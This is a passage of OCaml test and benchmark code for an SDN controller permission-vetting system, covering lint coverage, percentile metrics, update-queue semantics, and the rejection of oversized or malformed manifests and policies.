    | _ -> fail "sarif: missing or wrong version field");
    match Json.member "runs" json with
    | Some (Json.Arr [ run ]) -> (
      match Json.member "results" run with
      | Some (Json.Arr results) ->
        if List.length results <> List.length findings then
          fail "sarif: %d results for %d findings" (List.length results)
            (List.length findings)
      | _ -> fail "sarif: run carries no results array")
    | _ -> fail "sarif: expected exactly one run")

(* Budget degradation --------------------------------------------------------- *)

let check_budget_degradation () =
  let dirty_m =
    manifest_of ~what:"dirty.manifest" (read_example "dirty.manifest")
  in
  let limits = { Budget.default_limits with Budget.max_steps = 1 } in
  match Lint.lint_manifest ~limits dirty_m with
  | findings ->
    describe "exhausted budget" findings;
    if findings = [] then
      fail "budget: an exhausted budget produced no unverified findings";
    List.iter
      (fun f ->
        if f.Lint.severity <> Lint.Info then
          fail
            "budget: finding %S under an exhausted budget has severity %s, \
             not Info"
            f.Lint.message
            (Lint.severity_label f.Lint.severity))
      findings
  | exception exn ->
    fail "budget: lint raised under an exhausted budget: %s"
      (Printexc.to_string exn)

(* Harness --------------------------------------------------------------------- *)

let arm_watchdog seconds =
  ignore
    (Thread.create
       (fun () ->
         Thread.delay seconds;
         Fmt.epr
           "lint-lab WATCHDOG: still running after %.0fs — lint hung on the \
            corpus@."
           seconds;
         exit 3)
       ())

let report_outcome ~gate failures =
  Fmt.pr "@.lint counters:@.";
  List.iter (fun (name, n) -> Fmt.pr "  %-36s %d@." name n) (Lint.stats ());
  let module J = Bench_util.Json in
  Bench_util.write_json "BENCH_LINT.json"
    (J.Obj
       [ ("bench", J.Str gate);
         ("corpus", J.Str "examples/lint dirty/clean + hostile seeds");
         ( "rule_counters",
           J.Obj (List.map (fun (name, n) -> (name, J.Int n)) (Lint.stats ())) );
         ("failures", J.Int (List.length failures)) ]);
  match failures with
  | [] -> Fmt.pr "%s ok: rule coverage, clean corpus and renderers hold@." gate
  | fs ->
    List.iter (fun f -> Fmt.epr "%s FAILURE: %s@." gate f) fs;
    exit 1

let run_checks ~seeds ~trace_n =
  failures := [];
  Lint.reset_counters ();
  let _, trace = Pgen.over_privileged ~n:trace_n () in
  let dirty_policy_findings = check_dirty_corpus ~trace in
  check_generated_corpus ~seeds ~trace;
  check_over_privileged ~n:trace_n;
  check_clean_corpus ~trace;
  check_sarif_roundtrip dirty_policy_findings;
  check_budget_degradation ();
  !failures

let run () =
  Bench_util.hr "Shield-lint: rule coverage on the dirty/clean corpus";
  arm_watchdog 300.;
  report_outcome ~gate:"lint-lab" (run_checks ~seeds:16 ~trace_n:512)

(** Tier-1 gate: same invariants, smaller volume. *)
let smoke () =
  Bench_util.hr "Shield-lint: smoke";
  arm_watchdog 120.;
  report_outcome ~gate:"lint-smoke" (run_checks ~seeds:3 ~trace_n:64)
