(* Percentile/summary math used by the Figure 6-8 harnesses. *)

open Shield_controller

let test_percentile_exact () =
  let sorted = [ 1.; 2.; 3.; 4.; 5.; 6.; 7.; 8.; 9.; 10. ] in
  Alcotest.(check (float 1e-9)) "median" 5.5 (Metrics.percentile 50. sorted);
  Alcotest.(check (float 1e-9)) "min" 1. (Metrics.percentile 0. sorted);
  Alcotest.(check (float 1e-9)) "max" 10. (Metrics.percentile 100. sorted);
  Alcotest.(check (float 1e-9)) "p10" 1.9 (Metrics.percentile 10. sorted);
  Alcotest.(check (float 1e-9)) "p90" 9.1 (Metrics.percentile 90. sorted)

let test_percentile_singleton () =
  Alcotest.(check (float 1e-9)) "single sample" 7. (Metrics.percentile 50. [ 7. ]);
  Alcotest.(check bool) "empty gives nan" true
    (Float.is_nan (Metrics.percentile 50. []))

let test_percentile_sorted_edges () =
  (* Pin the documented edge cases of the array-based primitive:
     n = 0 is nan, n = 1 yields the sample for every p, and the
     method is linear interpolation — NOT nearest-rank, which would
     give 1. or 2. here, never 1.5. *)
  Alcotest.(check bool) "n=0 gives nan" true
    (Float.is_nan (Metrics.percentile_sorted 50. [||]));
  List.iter
    (fun p ->
      Alcotest.(check (float 1e-9))
        (Printf.sprintf "n=1 p%g is the sample" p)
        7.
        (Metrics.percentile_sorted p [| 7. |]))
    [ 0.; 25.; 50.; 99.; 100. ];
  Alcotest.(check (float 1e-9)) "linear interpolation, not nearest-rank" 1.5
    (Metrics.percentile_sorted 50. [| 1.; 2. |])

let test_summary () =
  let t = Metrics.create () in
  List.iter (Metrics.record t) [ 3.; 1.; 2. ];
  let s = Metrics.summarize t in
  Alcotest.(check int) "n" 3 s.Metrics.n;
  Alcotest.(check (float 1e-9)) "median" 2. s.Metrics.median;
  Alcotest.(check (float 1e-9)) "mean" 2. s.Metrics.mean;
  Alcotest.(check (float 1e-9)) "min" 1. s.Metrics.min;
  Alcotest.(check (float 1e-9)) "max" 3. s.Metrics.max

let test_summary_empty () =
  let s = Metrics.summarize (Metrics.create ()) in
  Alcotest.(check int) "n" 0 s.Metrics.n;
  Alcotest.(check bool) "median nan" true (Float.is_nan s.Metrics.median)

let test_time_records () =
  let t = Metrics.create () in
  let r = Metrics.time t (fun () -> 42) in
  Alcotest.(check int) "result" 42 r;
  Alcotest.(check int) "recorded" 1 (Metrics.count t);
  Alcotest.(check bool) "non-negative" true ((Metrics.summarize t).Metrics.min >= 0.)

let test_summarize_list () =
  let s = Metrics.summarize_list [ 5.; 1. ] in
  Alcotest.(check (float 1e-9)) "median" 3. s.Metrics.median

let test_samples_recording_order () =
  let t = Metrics.create () in
  List.iter (Metrics.record t) [ 3.; 1.; 2. ];
  Alcotest.(check (list (float 1e-9))) "recording order" [ 3.; 1.; 2. ]
    (Metrics.samples t)

let test_now_monotonic () =
  let a = Metrics.now () in
  let b = ref (Metrics.now ()) in
  (* Spin past clock granularity; a monotonic clock never goes back. *)
  while !b = a do
    b := Metrics.now ()
  done;
  Alcotest.(check bool) "strictly advances" true (!b > a)

(* Regression for the growable-buffer rework: concurrent [record]s
   must neither lose samples nor corrupt the summary while the buffer
   doubles under contention. *)
let test_concurrent_record () =
  let t = Metrics.create () in
  let threads = 8 and per_thread = 1000 in
  let worker tid =
    Thread.create
      (fun () ->
        for i = 1 to per_thread do
          Metrics.record t (float_of_int ((tid * per_thread) + i))
        done)
      ()
  in
  List.init threads worker |> List.iter Thread.join;
  Alcotest.(check int) "all samples kept" (threads * per_thread)
    (Metrics.count t);
  let s = Metrics.summarize t in
  Alcotest.(check int) "summary n" (threads * per_thread) s.Metrics.n;
  Alcotest.(check (float 1e-9)) "min" 1. s.Metrics.min;
  Alcotest.(check (float 1e-9)) "max"
    (float_of_int (threads * per_thread))
    s.Metrics.max

let qsuite =
  [ QCheck.Test.make ~count:200 ~name:"percentiles are monotone and bounded"
      QCheck.(list_of_size (Gen.int_range 1 50) (float_range 0. 1000.))
      (fun samples ->
        let sorted = List.sort compare samples in
        let p10 = Shield_controller.Metrics.percentile 10. sorted in
        let p50 = Shield_controller.Metrics.percentile 50. sorted in
        let p90 = Shield_controller.Metrics.percentile 90. sorted in
        let lo = List.hd sorted and hi = List.nth sorted (List.length sorted - 1) in
        p10 <= p50 && p50 <= p90 && lo <= p10 && p90 <= hi) ]

let suite =
  [ Alcotest.test_case "percentile exact" `Quick test_percentile_exact;
    Alcotest.test_case "percentile singleton" `Quick test_percentile_singleton;
    Alcotest.test_case "percentile_sorted edges" `Quick
      test_percentile_sorted_edges;
    Alcotest.test_case "summary" `Quick test_summary;
    Alcotest.test_case "summary empty" `Quick test_summary_empty;
    Alcotest.test_case "time records" `Quick test_time_records;
    Alcotest.test_case "summarize list" `Quick test_summarize_list;
    Alcotest.test_case "samples recording order" `Quick
      test_samples_recording_order;
    Alcotest.test_case "now monotonic" `Quick test_now_monotonic;
    Alcotest.test_case "concurrent record" `Quick test_concurrent_record ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
