(* Market update-queue tests: the generic controller-side half of the
   live-update subsystem (docs/CHURN.md).  The executor here is a toy —
   the full staged pipeline is exercised in test_epoch.ml — so these
   tests pin the queue's own contract: serialization, the ledger,
   commit/rollback accounting, the worker's exception barrier, audit
   notifications and shutdown semantics. *)

open Shield_controller

let commit epoch =
  Market.Committed { epoch; delta = false; republished = []; stages = [] }

let test_serialized_commits () =
  (* The executor is deliberately race-detectable: concurrent entries
     would interleave [inside] increments. *)
  let inside = ref 0 and overlapped = ref false and n = Atomic.make 0 in
  let exec (_ : Market.request) =
    incr inside;
    if !inside > 1 then overlapped := true;
    Thread.yield ();
    decr inside;
    commit (Atomic.fetch_and_add n 1 + 1)
  in
  let m = Market.create ~exec () in
  let ivars =
    List.init 20 (fun i -> Market.submit_async m (Market.install (string_of_int i) ""))
  in
  List.iter (fun iv -> ignore (Channel.Ivar.read iv)) ivars;
  Market.shutdown m;
  Alcotest.(check bool) "transactions never overlapped" false !overlapped;
  let h = Market.history m in
  Alcotest.(check int) "all in the ledger" 20 (List.length h);
  Alcotest.(check (list int)) "ledger in submission order"
    (List.init 20 (fun i -> i + 1))
    (List.map (fun (t : Market.txn) -> t.Market.id) h)

let test_stats_and_outcomes () =
  let exec (req : Market.request) =
    match req.Market.kind with
    | Market.Install -> commit 1
    | Market.Upgrade ->
      Market.Rolled_back { stage = "verify"; reason = "refuted"; epoch = 1; stages = [] }
    | Market.Revoke -> failwith "executor crashed"
  in
  let m = Market.create ~exec () in
  Alcotest.(check bool) "install commits" true
    (Market.committed (Market.submit m (Market.install "a" "")));
  (match Market.submit m (Market.upgrade "a" "") with
  | Market.Rolled_back { stage; epoch; _ } ->
    Alcotest.(check string) "stage reported" "verify" stage;
    Alcotest.(check int) "pre-transaction epoch reported" 1 epoch
  | Market.Committed _ -> Alcotest.fail "expected rollback");
  (* The worker's exception barrier: a raising executor is contained as
     a stage-"apply" rollback and the queue keeps serving. *)
  (match Market.submit m (Market.revoke "a") with
  | Market.Rolled_back { stage; _ } ->
    Alcotest.(check string) "barrier stage" "apply" stage
  | Market.Committed _ -> Alcotest.fail "expected contained crash");
  Alcotest.(check bool) "worker survived the crash" true
    (Market.committed (Market.submit m (Market.install "b" "")));
  let s = Market.stats m in
  Alcotest.(check int) "submitted" 4 s.Market.submitted;
  Alcotest.(check int) "commits" 2 s.Market.commits;
  Alcotest.(check int) "rollbacks" 2 s.Market.rollbacks;
  Market.shutdown m

let test_audit_notifications () =
  let sandbox = Sandbox.create () in
  let exec (req : Market.request) =
    if req.Market.kind = Market.Revoke then
      Market.Rolled_back { stage = "publish"; reason = "injected"; epoch = 3; stages = [] }
    else commit 4
  in
  let m = Market.create ~sandbox ~exec () in
  ignore (Market.submit m (Market.install "good" ""));
  ignore (Market.submit m (Market.revoke "bad"));
  Market.shutdown m;
  let log = Sandbox.audit_log sandbox in
  let find action =
    List.find_opt (fun (e : Sandbox.audit_entry) -> e.Sandbox.action = action) log
  in
  (match find "market-commit" with
  | Some e -> Alcotest.(check bool) "commit audited as allowed" true e.Sandbox.allowed
  | None -> Alcotest.fail "no market-commit audit entry");
  (match find "market-rollback" with
  | Some e ->
    Alcotest.(check bool) "rollback audited as denied" false e.Sandbox.allowed;
    Alcotest.(check string) "attributed to the app" "bad" e.Sandbox.app_name
  | None -> Alcotest.fail "no market-rollback audit entry");
  (* The rollback notification is part of the forensic fault log. *)
  Alcotest.(check bool) "forensics surfaces the rollback" true
    (List.exists
       (fun (e : Sandbox.audit_entry) -> e.Sandbox.action = "market-rollback")
       (Forensics.fault_log sandbox))

let test_shutdown_semantics () =
  let m = Market.create ~exec:(fun _ -> commit 1) () in
  ignore (Market.submit m (Market.install "a" ""));
  Market.shutdown m;
  Market.shutdown m (* idempotent *);
  match Market.submit m (Market.install "b" "") with
  | Market.Rolled_back { stage; _ } ->
    Alcotest.(check string) "refused at the queue" "queue" stage;
    Alcotest.(check int) "refusal not in stats as submitted-lost" 2
      (Market.stats m).Market.submitted
  | Market.Committed _ -> Alcotest.fail "submit after shutdown must refuse"

let suite =
  [ Alcotest.test_case "serialized commits, ordered ledger" `Quick
      test_serialized_commits;
    Alcotest.test_case "stats and outcome reporting" `Quick
      test_stats_and_outcomes;
    Alcotest.test_case "audit notifications" `Quick test_audit_notifications;
    Alcotest.test_case "shutdown semantics" `Quick test_shutdown_semantics ]
