(* Tests for the admission-vetting pipeline (docs/VETTING.md): budget
   accounting, hostile-input containment, macro-expansion fixed points,
   per-statement policy-error isolation, and the positioned parse
   errors the pipeline reports. *)

open Sdnshield
module Hostile = Shield_workload.Hostile_gen
module Prng = Shield_workload.Prng

let filter = Test_util.filter_exn

let clean_manifest_src =
  "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0\n\
   PERM read_statistics"

let label v = Vetting.verdict_label v

(* Substring check (avoids an astring dependency). *)
let contains ~affix s =
  let n = String.length affix and m = String.length s in
  let rec go i = i + n <= m && (String.sub s i n = affix || go (i + 1)) in
  n = 0 || go 0

let rejection_of = function
  | Vetting.Rejected r -> r
  | v -> Alcotest.failf "expected rejection, got %s" (label v)

(* Verdict classification ------------------------------------------------------ *)

let test_clean_admitted () =
  match Vetting.vet_manifest clean_manifest_src with
  | Vetting.Admitted { Vetting.value = m; lint; _ } ->
    Alcotest.(check int) "two permissions" 2 (List.length m);
    Alcotest.(check int) "clean manifest has no lint findings" 0
      (List.length lint)
  | v -> Alcotest.failf "expected admitted, got %s" (label v)

let test_depth_bomb_rejected () =
  let r =
    rejection_of (Vetting.vet_manifest (Hostile.depth_bomb_src ~depth:100_000))
  in
  Alcotest.(check string) "stage" "parse" r.Vetting.stage;
  let r =
    rejection_of (Vetting.vet_manifest (Hostile.paren_bomb_src ~depth:100_000))
  in
  Alcotest.(check string) "paren stage" "parse" r.Vetting.stage

let test_ast_depth_bomb_rejected () =
  let r =
    rejection_of
      (Vetting.vet_manifest_ast
         (Hostile.manifest_of_filter (Hostile.ast_depth_bomb ~depth:100_000)))
  in
  Alcotest.(check string) "stage" "structure" r.Vetting.stage;
  Alcotest.(check bool) "depth spent recorded" true
    (r.Vetting.spent.Budget.depth_hwm > 2_000)

let test_garbage_rejected () =
  for seed = 1 to 10 do
    let r =
      rejection_of (Vetting.vet_manifest (Hostile.garbage ~seed ~len:2048))
    in
    Alcotest.(check string) "stage" "parse" r.Vetting.stage
  done

let test_cross_bomb_degraded () =
  match
    Vetting.vet_manifest_ast
      (Hostile.manifest_of_filter (Hostile.cross_bomb ~atoms:512))
  with
  | Vetting.Degraded (_, notes) ->
    Alcotest.(check bool) "mentions fail-closed fallback" true
      (List.exists
         (fun n ->
           contains ~affix:"fail-closed" n
           || contains ~affix:"blow-up" n)
         notes)
  | v -> Alcotest.failf "expected degraded, got %s" (label v)

let test_budget_exhaustion_rejected () =
  let limits = { Budget.default_limits with Budget.max_steps = 8 } in
  let r = rejection_of (Vetting.vet_manifest ~limits clean_manifest_src) in
  Alcotest.(check bool) "steps spent at the cap" true
    (r.Vetting.spent.Budget.steps > 8);
  Alcotest.(check bool) "reason names the budget" true
    (contains ~affix:"step budget" r.Vetting.reason)

let test_never_raises_without_scope () =
  (* Production code paths must stay untouched when no budget scope is
     installed: a plain parse of a (small) bomb fails with Error, not
     an exception, and conversion guards still work. *)
  (match Perm_parser.manifest_of_string (Hostile.depth_bomb_src ~depth:5_000) with
  | Error _ -> ()
  | Ok _ -> Alcotest.fail "depth bomb parsed");
  match Nf.dnf (Hostile.cross_bomb ~atoms:256) with
  | _ -> Alcotest.fail "expected Too_large"
  | exception Nf.Too_large -> ()

(* Macro expansion (fixed point, cycles, bombs) -------------------------------- *)

let test_macro_chain_expands () =
  (* LET chains A -> B -> C must resolve fully, not report B as an
     unresolved stub. *)
  let policy =
    "LET A = { B }\n\
     LET B = { C }\n\
     LET C = { IP_DST 10.1.0.0 MASK 255.255.0.0 }"
  in
  match
    Reconcile.run_strings ~app_name:"app"
      ~manifest_src:"PERM insert_flow LIMITING A" ~policy_src:policy
  with
  | Error e -> Alcotest.fail e
  | Ok (final, report) ->
    Alcotest.(check (list (pair string (list string))))
      "no unresolved stubs" [] report.Reconcile.unresolved_macros;
    Alcotest.(check bool) "fully concrete" false
      (List.exists
         (fun (p : Perm.t) -> Filter.has_macros p.Perm.filter)
         final)

let test_macro_cycle_fail_closed () =
  let lookup = function
    | "a" -> Some (filter "b")
    | "b" -> Some (filter "a")
    | _ -> None
  in
  let e = Filter.expand_macros lookup (filter "a") in
  Alcotest.(check bool) "cycle left as stub" true (Filter.has_macros e)

let test_macro_bomb_degrades () =
  let manifest_src, policy_src = Hostile.macro_chain_bomb ~links:48 in
  match Vetting.vet_and_reconcile ~apps:[ ("bomb", manifest_src) ] policy_src with
  | Vetting.Degraded ({ Vetting.value = report; _ }, notes) ->
    Alcotest.(check bool) "notes the node cap" true
      (List.exists (contains ~affix:"node cap") notes);
    Alcotest.(check bool) "stubs reported unresolved" true
      (report.Reconcile.unresolved_macros <> [])
  | v -> Alcotest.failf "expected degraded, got %s" (label v)

(* Policy errors are violations, not exceptions (satellite 3) ------------------ *)

let find_policy_errors (report : Reconcile.report) =
  List.filter
    (fun (v : Reconcile.violation) ->
      v.Reconcile.action = Reconcile.Policy_error)
    report.Reconcile.violations

let test_unbound_variable_is_violation () =
  let policy =
    "ASSERT ghost <= { PERM insert_flow }\n\
     LET a = APP app\n\
     ASSERT a <= { PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK \
     255.255.0.0 }"
  in
  match
    Reconcile.run_strings ~app_name:"app"
      ~manifest_src:"PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0"
      ~policy_src:policy
  with
  | Error e -> Alcotest.fail e
  | Ok (_, report) ->
    (match find_policy_errors report with
    | [ v ] ->
      Alcotest.(check bool) "names the variable" true
        (contains ~affix:"unbound variable ghost"
           v.Reconcile.message)
    | vs -> Alcotest.failf "expected 1 policy error, got %d" (List.length vs));
    (* The bad statement must not abort the rest: the boundary assert
       after it still repaired the manifest. *)
    Alcotest.(check bool) "later statement still repaired" true
      (List.exists
         (fun (v : Reconcile.violation) ->
           v.Reconcile.action = Reconcile.Truncated_to_boundary)
         report.Reconcile.violations)

let test_macro_as_perm_set_is_violation () =
  let policy =
    "LET f = { IP_DST 10.0.0.0 MASK 255.0.0.0 }\n\
     LET a = APP app\n\
     ASSERT f <= a"
  in
  match
    Reconcile.run_strings ~app_name:"app" ~manifest_src:"PERM read_statistics"
      ~policy_src:policy
  with
  | Error e -> Alcotest.fail e
  | Ok (_, report) -> (
    match find_policy_errors report with
    | [ v ] ->
      Alcotest.(check bool) "names the confusion" true
        (contains ~affix:"filter macro, not a permission set"
           v.Reconcile.message)
    | vs -> Alcotest.failf "expected 1 policy error, got %d" (List.length vs))

let test_cyclic_binding_is_violation () =
  let policy =
    "LET x = y\nLET y = x\nASSERT x <= { PERM insert_flow }"
  in
  match
    Reconcile.run_strings ~app_name:"app" ~manifest_src:"PERM read_statistics"
      ~policy_src:policy
  with
  | Error e -> Alcotest.fail e
  | Ok (_, report) ->
    Alcotest.(check bool) "cycle reported" true
      (List.exists
         (fun (v : Reconcile.violation) ->
           contains ~affix:"cyclic binding" v.Reconcile.message)
         (find_policy_errors report))

let test_vet_policy_flags_unbound () =
  match Vetting.vet_policy "ASSERT ghost <= { PERM insert_flow }" with
  | Vetting.Degraded (_, notes) ->
    Alcotest.(check bool) "note names ghost" true
      (List.exists (contains ~affix:"ghost") notes)
  | v -> Alcotest.failf "expected degraded, got %s" (label v)

(* Positioned parse errors (satellite 4) --------------------------------------- *)

let test_parse_errors_carry_lines () =
  (match Perm_parser.manifest_of_string "PERM read_statistics\nPERM LIMITING" with
  | Ok _ -> Alcotest.fail "parsed"
  | Error e ->
    Alcotest.(check bool)
      (Printf.sprintf "manifest error names line 2: %S" e)
      true
      (contains ~affix:"line 2" e));
  (match Perm_parser.filter_of_string "OWN_FLOWS AND\nAND" with
  | Ok _ -> Alcotest.fail "parsed"
  | Error e ->
    Alcotest.(check bool)
      (Printf.sprintf "filter error names line 2: %S" e)
      true
      (contains ~affix:"line 2" e));
  match Policy_parser.of_string "LET a = APP app\nASSERT <= b" with
  | Ok _ -> Alcotest.fail "parsed"
  | Error e ->
    Alcotest.(check bool)
      (Printf.sprintf "policy error names line 2: %S" e)
      true
      (contains ~affix:"line 2" e)

(* Normal-form caps ------------------------------------------------------------ *)

let test_width_cap () =
  let bomb = Hostile.width_bomb ~atoms:2_000 in
  (match Nf.dnf bomb with
  | _ -> Alcotest.fail "expected Too_large on width"
  | exception Nf.Too_large -> ());
  match Nf.dnf ~max_width:4_000 bomb with
  | [ clause ] -> Alcotest.(check int) "single wide clause" 2_000 (List.length clause)
  | clauses -> Alcotest.failf "expected 1 clause, got %d" (List.length clauses)

let test_cross_allocation_capped () =
  Nf.clear_memo ();
  let b = Budget.create () in
  (Budget.with_scope b (fun () ->
       match Nf.dnf (Hostile.cross_bomb ~atoms:512) with
       | _ -> Alcotest.fail "expected Too_large"
       | exception Nf.Too_large -> ()));
  Alcotest.(check bool) "allocation stopped at the cap" true
    ((Budget.spent b).Budget.clauses <= 4096)

(* Metrics --------------------------------------------------------------------- *)

let test_stats_count_verdicts () =
  Vetting.reset_stats ();
  ignore (Vetting.vet_manifest clean_manifest_src);
  ignore (Vetting.vet_manifest "PERM");
  ignore (Vetting.vet_manifest "PERM");
  let s = Vetting.stats () in
  Alcotest.(check int) "admitted" 1 s.Vetting.admitted;
  Alcotest.(check int) "rejected" 2 s.Vetting.rejected;
  Alcotest.(check (list (pair string int)))
    "by stage" [ ("parse", 2) ] s.Vetting.rejected_by_stage

(* Never-raises properties (qcheck) -------------------------------------------- *)

let qsuite =
  [ QCheck.Test.make ~count:500 ~name:"vet_manifest never raises on bytes"
      QCheck.(string_of_size Gen.(0 -- 512))
      (fun s ->
        match Vetting.vet_manifest s with
        | Vetting.Admitted _ | Vetting.Degraded _ | Vetting.Rejected _ -> true);
    QCheck.Test.make ~count:300
      ~name:"vet_manifest_ast never raises on hostile ASTs"
      QCheck.(pair small_int (int_bound 600))
      (fun (seed, size) ->
        let ast =
          Hostile.random_hostile_ast (Prng.of_int seed) ~size:(1 + size)
        in
        match Vetting.vet_manifest_ast (Hostile.manifest_of_filter ast) with
        | Vetting.Admitted _ | Vetting.Degraded _ | Vetting.Rejected _ -> true);
    QCheck.Test.make ~count:200 ~name:"vet_policy never raises on bytes"
      QCheck.(string_of_size Gen.(0 -- 512))
      (fun s ->
        match Vetting.vet_policy s with
        | Vetting.Admitted _ | Vetting.Degraded _ | Vetting.Rejected _ -> true) ]

let suite =
  [ Alcotest.test_case "clean manifest admitted" `Quick test_clean_admitted;
    Alcotest.test_case "depth bombs rejected at parse" `Quick
      test_depth_bomb_rejected;
    Alcotest.test_case "AST depth bomb rejected at structure" `Quick
      test_ast_depth_bomb_rejected;
    Alcotest.test_case "garbage rejected" `Quick test_garbage_rejected;
    Alcotest.test_case "cross bomb degrades" `Quick test_cross_bomb_degraded;
    Alcotest.test_case "budget exhaustion rejects" `Quick
      test_budget_exhaustion_rejected;
    Alcotest.test_case "unscoped paths unaffected" `Quick
      test_never_raises_without_scope;
    Alcotest.test_case "macro chains expand to fixed point" `Quick
      test_macro_chain_expands;
    Alcotest.test_case "macro cycles fail closed" `Quick
      test_macro_cycle_fail_closed;
    Alcotest.test_case "macro bomb degrades" `Quick test_macro_bomb_degrades;
    Alcotest.test_case "unbound variable is a violation" `Quick
      test_unbound_variable_is_violation;
    Alcotest.test_case "macro-as-perm-set is a violation" `Quick
      test_macro_as_perm_set_is_violation;
    Alcotest.test_case "cyclic binding is a violation" `Quick
      test_cyclic_binding_is_violation;
    Alcotest.test_case "vet_policy flags unbound vars" `Quick
      test_vet_policy_flags_unbound;
    Alcotest.test_case "parse errors carry source lines" `Quick
      test_parse_errors_carry_lines;
    Alcotest.test_case "clause width capped" `Quick test_width_cap;
    Alcotest.test_case "cross allocation capped" `Quick
      test_cross_allocation_capped;
    Alcotest.test_case "verdict counters" `Quick test_stats_count_verdicts ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
