let () =
  Alcotest.run "sdnshield"
    [ ("openflow", Test_openflow.suite);
      ("network", Test_network.suite);
      ("controller", Test_controller.suite);
      ("filters", Test_filters.suite);
      ("parsers", Test_parsers.suite);
      ("inclusion", Test_inclusion.suite);
      ("perm-ops", Test_perm_ops.suite);
      ("reconcile", Test_reconcile.suite);
      ("engine", Test_engine.suite);
      ("apps", Test_apps.suite);
      ("attacks", Test_attacks.suite);
      ("workload", Test_workload.suite);
      ("compiled", Test_compiled.suite);
      ("automaton", Test_automaton.suite);
      ("decision-cache", Test_decision_cache.suite);
      ("infer", Test_infer.suite);
      ("hll", Test_hll.suite);
      ("runtime-ext", Test_runtime_ext.suite);
      ("faults", Test_faults.suite);
      ("metrics", Test_metrics.suite);
      ("trace", Test_trace.suite);
      ("vetting", Test_vetting.suite);
      ("lint", Test_lint.suite);
      ("diff", Test_diff.suite);
      ("verify", Test_verify.suite);
      ("roundtrip", Test_roundtrip.suite);
      ("forensics", Test_forensics.suite);
      ("ownership", Test_ownership.suite);
      ("market", Test_market.suite);
      ("epoch", Test_epoch.suite) ]
