(* Live-update tests (docs/CHURN.md): the staged lifecycle transaction
   (vet → reconcile → lint → verify → compile → publish), rollback at
   every injected fault site, delta vs whole-policy re-reconciliation,
   fail-closed revocation, the market wiring — and the swap-consistency
   property: a call issued concurrently with a hot-swap evaluates
   entirely against the old or entirely against the new manifest. *)

open Shield_openflow
open Shield_controller
open Sdnshield

let insert ?(dpid = 1) ?(nw_dst = "10.1.0.1") () =
  Api.Install_flow
    ( dpid,
      Flow_mod.add ~priority:100
        ~match_:
          (Match_fields.make ~dl_type:Types.Eth_ip
             ~nw_dst:(Match_fields.exact_ip (Test_util.ip nw_dst))
             ())
        ~actions:[ Action.Output 1 ] () )

let stats_call = Api.Read_stats (Stats.request Stats.Flow_level)

let deploy ?strict_verify ?(policy = "") () =
  match Epoch.create ?strict_verify ~policy () with
  | Ok t -> t
  | Error e -> Alcotest.failf "deployment rejected: %s" e

(* Plain views of the outcome's inline records, bindable as values. *)
type commit_view = {
  epoch : int;
  delta : bool;
  republished : string list;
  stages : (string * float) list;
}

type rollback_view = { stage : string; reason : string; at_epoch : int }

let committed what (o : Market.outcome) : commit_view =
  match o with
  | Market.Committed { epoch; delta; republished; stages } ->
    { epoch; delta; republished; stages }
  | Market.Rolled_back { stage; reason; _ } ->
    Alcotest.failf "%s: rolled back at %s (%s)" what stage reason

let rolled_back what (o : Market.outcome) : rollback_view =
  match o with
  | Market.Rolled_back { stage; reason; epoch; _ } ->
    { stage; reason; at_epoch = epoch }
  | Market.Committed _ -> Alcotest.failf "%s: expected rollback" what

(* Lifecycle ---------------------------------------------------------------- *)

let boundary_policy =
  "LET mon = APP mon\nASSERT mon <= { PERM read_statistics }"

let test_install_upgrade_revoke () =
  let t = deploy ~policy:boundary_policy () in
  Alcotest.(check int) "starts at epoch 0" 0 (Epoch.epoch t);
  let c =
    committed "install"
      (Epoch.apply t
         (Market.install "mon" "PERM read_statistics\nPERM insert_flow"))
  in
  Alcotest.(check int) "first commit is epoch 1" 1 c.epoch;
  (* "verify:minimality:minimal" is the advisory pseudo-stage the
     verify stage pushes so repair-minimality rides into txn spans. *)
  Alcotest.(check (list string)) "staged pipeline ran in order"
    [ "vet"; "reconcile"; "lint"; "verify"; "verify:minimality:minimal";
      "compile"; "publish" ]
    (List.map fst c.stages);
  (* The policy boundary truncated insert_flow away: the published
     record enforces the *reconciled* manifest. *)
  let ck = Epoch.checker t "mon" in
  Test_util.check_allow "granted perm serves" (ck.Api.check stats_call);
  Test_util.check_deny "boundary-truncated perm denied" (ck.Api.check (insert ()));
  let c2 =
    committed "upgrade" (Epoch.apply t (Market.upgrade "mon" "PERM read_statistics"))
  in
  Alcotest.(check int) "upgrade advances the epoch" 2 c2.epoch;
  Alcotest.(check bool) "still consistent" true (Epoch.consistent t);
  let c3 = committed "revoke" (Epoch.apply t (Market.revoke "mon")) in
  Alcotest.(check int) "revoke advances the epoch" 3 c3.epoch;
  (* Fail-closed: the live checker now denies; the deployment is empty
     but structurally consistent. *)
  Test_util.check_deny "revoked app denied" (ck.Api.check stats_call);
  Alcotest.(check (list (pair string int))) "no live apps" [] (Epoch.apps t);
  Alcotest.(check bool) "consistent after revoke" true (Epoch.consistent t);
  Epoch.close t

let test_request_validation () =
  let t = deploy () in
  ignore (committed "install" (Epoch.apply t (Market.install "a" "PERM insert_flow")));
  let r = rolled_back "double install" (Epoch.apply t (Market.install "a" "PERM insert_flow")) in
  Alcotest.(check string) "refused at vet" "vet" r.stage;
  Alcotest.(check string) "upgrade of unknown refused at vet" "vet"
    (rolled_back "upgrade missing" (Epoch.apply t (Market.upgrade "b" "PERM insert_flow"))).stage;
  Alcotest.(check string) "revoke of unknown refused at vet" "vet"
    (rolled_back "revoke missing" (Epoch.apply t (Market.revoke "b"))).stage;
  Alcotest.(check string) "hostile manifest refused at vet" "vet"
    (rolled_back "garbage" (Epoch.apply t (Market.install "c" "PERM frobnicate"))).stage;
  Alcotest.(check int) "no failed transaction moved the epoch" 1 (Epoch.epoch t);
  Alcotest.(check bool) "consistent" true (Epoch.consistent t);
  Epoch.close t

(* Rollback under injected faults ------------------------------------------- *)

let test_rollback_at_every_swap_site () =
  let sites =
    [ ("verify", fun () -> Faults.configure ~swap_verify:1.0 ());
      ("compile", fun () -> Faults.configure ~swap_compile:1.0 ());
      ("publish", fun () -> Faults.configure ~swap_publish:1.0 ()) ]
  in
  List.iter
    (fun (stage_name, arm) ->
      let t = deploy () in
      ignore (committed "seed app" (Epoch.apply t (Market.install "a" "PERM read_statistics")));
      let ck = Epoch.checker t "a" in
      Fun.protect ~finally:Faults.disarm (fun () ->
          arm ();
          let r =
            rolled_back ("faulted " ^ stage_name)
